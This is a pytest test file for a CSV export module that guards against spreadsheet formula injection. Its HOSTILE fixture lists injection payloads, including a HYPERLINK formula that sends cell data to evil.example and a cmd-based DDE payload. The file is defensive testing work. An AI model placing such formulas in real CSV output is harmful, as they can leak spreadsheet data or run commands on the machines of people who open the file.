"""CSV downloads cannot carry spreadsheet formulas (daemons/nlq_http/csvout.py, OWASP advice)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from daemons.nlq_http.csvout import neutralised, render

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Results")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_becomes_text(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["Ann", "O'Brien", "2:55:01", "a=b", "(860) 555-0101", ""])
def test_ordinary_text_is_untouched(text):
    assert neutralised(text) == text


@pytest.mark.parametrize("number", [-5, -2.5, Decimal("-120.00"), 0, 42, True])
def test_real_numbers_stay_numbers(number):
    assert neutralised(number) is number


def test_none_dates_and_other_values_are_text():
    assert neutralised(None) == ""
    assert neutralised(dt.date(2024, 10, 12)) == "2024-10-12"


def test_the_download_quotes_every_string_and_no_number():
    text = render(
        ["last_name", "age", "fee", "city"],
        [[HOSTILE[0], 31, Decimal("-5.50"), 'say "hi", Ann'], ["Able", -1, None, "-Springfield"]],
    )
    lines = text.split("\r\n")
    assert lines[0] == '"last_name","age","fee","city"'
    assert lines[1] == (
        '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Results"")",31,-5.50,"say ""hi"", Ann"'
    )
    assert lines[2] == '"Able",-1,"","\'-Springfield"'
    assert lines[3] == "" and len(lines) == 4  # CRLF after every row (RFC 4180)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'" + HOSTILE[0] and rows[2][3] == "'-Springfield"
    numbers = {"31", "-5.50", "-1"}  # unquoted in the file: a spreadsheet reads numbers
    cells = [cell for row in rows[1:] for cell in row if cell not in numbers]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
